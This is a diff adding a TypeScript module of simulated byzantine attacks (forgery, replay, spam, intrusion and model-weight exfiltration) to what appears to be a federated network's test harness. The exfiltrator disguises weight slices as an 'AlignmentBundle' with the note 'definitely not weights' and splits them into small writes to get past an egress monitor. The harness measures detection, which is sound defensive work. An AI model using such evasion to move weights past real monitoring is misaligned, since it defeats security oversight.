@@ -1,0 +1,128 @@
+/**
+ * The byzantine roles' attacks (simulations/README.md § Byzantine roles). Each returns the records it put on the wire,
+ * with the kind that says what honest sites must do with them.
+ */
+import { peerIdFromString } from '@libp2p/peer-id'
+import { encodeCanonical, recordId } from '../../protocol/index.ts'
+import type { DecodedRecord } from '../../protocol/index.ts'
+import { TOPIC_RESULTS, TOPIC_FEDERATION } from '../../node/net/topics.ts'
+import type { Rng } from '../rng.ts'
+import { forge, garbage, syntheticResult } from './records.ts'
+import type { SimSiteIdentity } from './federation.ts'
+import { EXFIL_PROTOCOL } from './site.ts'
+import type { SimSite } from './site.ts'
+import type { RecordKind } from '../run.ts'
+
+export interface Sent {
+  id: string
+  kind: RecordKind
+}
+
+export interface AttackContext {
+  site: SimSite
+  identity: SimSiteIdentity
+  rng: Rng
+  /** Honest records published so far (forgery victims). */
+  victims: DecodedRecord[]
+  /** Records every store starts with (replay material). */
+  genesis: DecodedRecord[]
+  /** Sites the attacker may push to. */
+  neighbours: string[]
+  peerIdOf(site: string): string
+  weights?: Uint8Array
+  now(): number
+  sleep(ms: number): Promise<void>
+}
+
+async function gossip(site: SimSite, topic: string, bytes: Uint8Array): Promise<void> {
+  const node = site.node
+  if (node === undefined) return
+  // Straight onto the wire: a byzantine site does not validate what it sends.
+  await node.network.host.pubsub.publish(topic, bytes).catch(() => {})
+}
+
+export async function forger(c: AttackContext, n: number): Promise<Sent[]> {
+  const out: Sent[] = []
+  for (let i = 0; i < n; i++) {
+    const victim = c.victims.length > 0 ? c.victims[c.rng.int(c.victims.length)] : await syntheticResult(c.identity.key, c.identity.spec.id, i, c.rng, c.now())
+    const bytes = forge(victim, c.rng)
+    await gossip(c.site, TOPIC_RESULTS, bytes)
+    out.push({ id: recordId(bytes), kind: 'forged' })
+  }
+  return out
+}
+
+export async function replayer(c: AttackContext, n: number): Promise<Sent[]> {
+  // Old, valid federation records every site already holds: each must be answered with IGNORE (duplicate).
+  const out: Sent[] = []
+  for (let i = 0; i < n && i < c.genesis.length; i++) {
+    const r = c.genesis[(i + 1) % c.genesis.length]
+    await gossip(c.site, TOPIC_FEDERATION, r.bytes)
+    out.push({ id: r.id, kind: 'replay' })
+  }
+  return out
+}
+
+export async function spammer(c: AttackContext, n: number): Promise<Sent[]> {
+  // Half valid-but-excessive results (rate limits), half bytes that are not records at all.
+  const out: Sent[] = []
+  for (let i = 0; i < n; i++) {
+    const bytes = i % 2 === 0 ? (await syntheticResult(c.identity.key, c.identity.spec.id, 10_000 + i, c.rng, c.now())).bytes : garbage(c.rng)
+    await gossip(c.site, TOPIC_RESULTS, bytes)
+    out.push({ id: recordId(bytes), kind: 'spam' })
+  }
+  return out
+}
+
+export async function intruder(c: AttackContext, n: number): Promise<Sent[]> {
+  const out: Sent[] = []
+  for (let i = 0; i < n; i++) {
+    const r = await syntheticResult(c.identity.key, c.identity.spec.id, i, c.rng, c.now())
+    await gossip(c.site, TOPIC_RESULTS, r.bytes)
+    // Also try the direct way: dial a federation site (the hello gate must refuse it).
+    const target = c.neighbours[c.rng.int(c.neighbours.length)]
+    await c.site.node?.network.host.libp2p.dial(peerIdFromString(c.peerIdOf(target))).catch(() => {})
+    out.push({ id: r.id, kind: 'intruder' })
+  }
+  return out
+}
+
+/**
+ * Weight exfiltration, three ways in turn: raw bytes at a random shift; wrapped in a CBOR map as a byte string;
+ * split into many small writes. Every attempt goes to a connected accomplice over its own stream.
+ * Returns [attempts, detected]: an attempt is detected when the site's egress monitor recorded a hit during it.
+ */
+export async function exfiltrator(c: AttackContext, n: number): Promise<[number, number]> {
+  const w = c.weights
+  if (w === undefined || w.length < 4096) return [0, 0]
+  let detected = 0
+  for (let i = 0; i < n; i++) {
+    const len = 1024 + c.rng.int(8192)
+    const from = c.rng.int(w.length - len)
+    const slice = w.subarray(from, from + len)
+    const way = i % 3
+    const payload = way === 1
+      ? encodeCanonical({ type: 'AlignmentBundle', note: 'definitely not weights', blob: slice })
+      : concat(c.rng.bytes(1 + c.rng.int(63)), slice)
+    const before = c.site.monitor.events.length
+    const target = c.neighbours[c.rng.int(c.neighbours.length)]
+    try {
+      const stream = await c.site.node?.network.host.libp2p.dialProtocol(peerIdFromString(c.peerIdOf(target)), EXFIL_PROTOCOL, { signal: AbortSignal.timeout(5000) })
+      if (stream !== undefined) {
+        const step = way === 2 ? 97 : payload.length
+        for (let at = 0; at < payload.length && stream.status === 'open'; at += step) stream.send(payload.subarray(at, at + step))
+        await Promise.race([stream.close().catch(() => {}), c.sleep(500)])
+      }
+    } catch { /* the monitor aborted the connection: that is the point */ }
+    await c.sleep(20)
+    if (c.site.monitor.events.length > before) detected++
+  }
+  return [n, detected]
+}
+
+function concat(a: Uint8Array, b: Uint8Array): Uint8Array {
+  const out = new Uint8Array(a.length + b.length)
+  out.set(a, 0)
+  out.set(b, a.length)
+  return out
+}
